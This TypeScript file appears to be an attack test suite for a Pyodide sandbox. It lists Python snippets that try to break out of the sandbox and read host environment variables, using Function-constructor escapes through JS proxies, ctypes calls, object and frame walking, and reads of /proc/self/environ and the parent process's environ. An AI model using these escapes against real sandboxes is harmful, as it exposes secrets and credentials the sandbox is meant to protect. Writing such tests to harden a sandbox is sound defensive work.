import { attack } from "../attack.ts";
import { inRealm, module } from "./realm-code.ts";

/** The environment of the process, of its parent and of the machine. */
export const environmentAttacks = [
  attack(
    "environment.os-environ",
    "environment",
    String.raw`
      import os
      print(dict(os.environ), os.getenv("@env@"), os.environb)
    `,
  ),
  attack(
    "environment.getenv-of-c",
    "environment",
    String.raw`
      import ctypes
      get = ctypes.CDLL(None).getenv
      get.restype = ctypes.c_char_p
      print(get(b"@env@"))
    `,
  ),
  attack(
    "environment.js-module",
    "environment",
    `import js\nprint(js.Reflect.get(js.process.env, "@env@"))`,
  ),
  attack(
    "environment.run-js",
    "environment",
    `from pyodide.code import run_js\nprint(run_js('process.env["@env@"]'))`,
  ),
  attack(
    "environment.function-constructor",
    "environment",
    String.raw`
      from pyodide.ffi import to_js
      make = to_js([1]).constructor.constructor
      print(make('return process.env["@env@"]')())
    `,
  ),
  attack(
    "environment.dict-converter",
    "environment",
    String.raw`
      from pyodide.ffi import to_js
      seen = []
      to_js({"a": 1}, dict_converter=lambda entries: seen.append(entries))
      print(seen[0].constructor.constructor('return process.env["@env@"]')())
    `,
  ),
  attack(
    "environment.eager-converter",
    "environment",
    String.raw`
      from pyodide.ffi import to_js
      def convert(value, convert, cache):
          print(convert.constructor('return process.env["@env@"]')())
          return value
      to_js(object(), eager_converter=convert, default_converter=convert)
    `,
  ),
  attack(
    "environment.callable-proxy",
    "environment",
    String.raw`
      from pyodide.ffi import create_proxy, to_js
      proxy = create_proxy(print)
      print(proxy, to_js([proxy])[0].constructor.constructor('return process.env["@env@"]')())
    `,
  ),
  attack(
    "environment.exception-constructor",
    "environment",
    String.raw`
      from pyodide.ffi import JsException, to_js
      try:
          to_js([1]).at.call(None)
      except JsException as error:
          print(error.js_error.constructor.constructor('return process.env["@env@"]')())
    `,
  ),
  attack(
    "environment.core-module",
    "environment",
    String.raw`
      import _pyodide_core as core
      print([name for name in dir(core) if "js" in name.lower()])
      print(core.to_js([1]).constructor.constructor('return process.env["@env@"]')())
    `,
  ),
  attack(
    "environment.walk-objects",
    "environment",
    String.raw`
      import gc
      for thing in gc.get_objects():
          if type(thing).__name__.startswith("Js"):
              print(thing.constructor.constructor('return process.env["@env@"]')())
    `,
  ),
  attack(
    "environment.walk-frames",
    "environment",
    String.raw`
      import sys
      frame = sys._getframe()
      while frame:
          for value in [*frame.f_globals.values(), *frame.f_locals.values()]:
              if "Js" in type(value).__name__:
                  print(value.constructor.constructor('return process.env["@env@"]')())
          frame = frame.f_back
    `,
  ),
  attack(
    "environment.walk-modules",
    "environment",
    String.raw`
      import sys
      for name, module in list(sys.modules.items()):
          for key in dir(module) if module else []:
              try:
                  value = getattr(module, key)
                  if "Js" in type(value).__name__:
                      print(name, key, value.constructor.constructor('return process.env["@env@"]')())
              except Exception as error:
                  print(name, key, type(error))
    `,
  ),
  attack(
    "environment.subclasses",
    "environment",
    String.raw`
      def below(kind):
          for child in type.__subclasses__(kind):
              yield child
              yield from below(child)
      kinds = [kind for kind in below(object) if "Js" in kind.__name__]
      print(kinds)
      for kind in kinds:
          try:
              thing = kind.new(1) if hasattr(kind, "new") else kind()
              print(thing.constructor.constructor('return process.env["@env@"]')())
          except Exception as error:
              print(kind, error)
    `,
  ),
  attack(
    "environment.import-finder",
    "environment",
    String.raw`
      import sys
      for finder in sys.meta_path:
          for value in getattr(finder, "jsproxies", {}).values():
              print(value.constructor.constructor('return process.env["@env@"]')())
              print(value.process.env["@env@"])
    `,
  ),
  attack(
    "environment.register-module",
    "environment",
    String.raw`
      from _pyodide import _importhook
      from pyodide.ffi import to_js
      _importhook.register_js_module("inner", to_js([1]))
      import inner
      print(inner.constructor.constructor('return process.env["@env@"]')())
    `,
  ),
  attack(
    "environment.run-script",
    "environment",
    String.raw`
      import ctypes
      run = ctypes.CDLL(None).emscripten_run_script_string
      run.restype = ctypes.c_char_p
      print(run(b'process.env["@env@"]'))
    `,
  ),
  attack("environment.bun", "environment", inRealm(`return Bun.env["@env@"]`)),
  attack(
    "environment.of-the-parent",
    "environment",
    inRealm(`return ${module("node:fs")}.readFileSync("/proc/@parent@/environ", "utf8")`),
  ),
  attack(
    "environment.proc-self",
    "environment",
    String.raw`
      for path in ("/proc/self/environ", "/proc/1/environ", "/proc/@parent@/environ", "/dev/fd/0"):
          try:
              print(open(path).read())
          except OSError as error:
              print(path, error)
    `,
  ),
  attack(
    "environment.host-paths",
    "environment",
    String.raw`
      import os, platform, sys, sysconfig, traceback
      print(os.environ, sys.argv, sys.orig_argv, sys.executable, sys.path, sys.prefix)
      print(os.getcwd(), platform.platform(), platform.node(), sysconfig.get_paths())
      for module in list(sys.modules.values()):
          print(getattr(module, "__file__", None), getattr(module, "__spec__", None))
      try:
          import js
          js.nothing()
      except BaseException as error:
          print("".join(traceback.format_exception(error)), error.__dict__)
      from pyodide.ffi import JsException, to_js
      try:
          to_js([1]).at.call(None)
      except JsException as error:
          print(error.stack, str(error.js_error.stack))
    `,
  ),
];
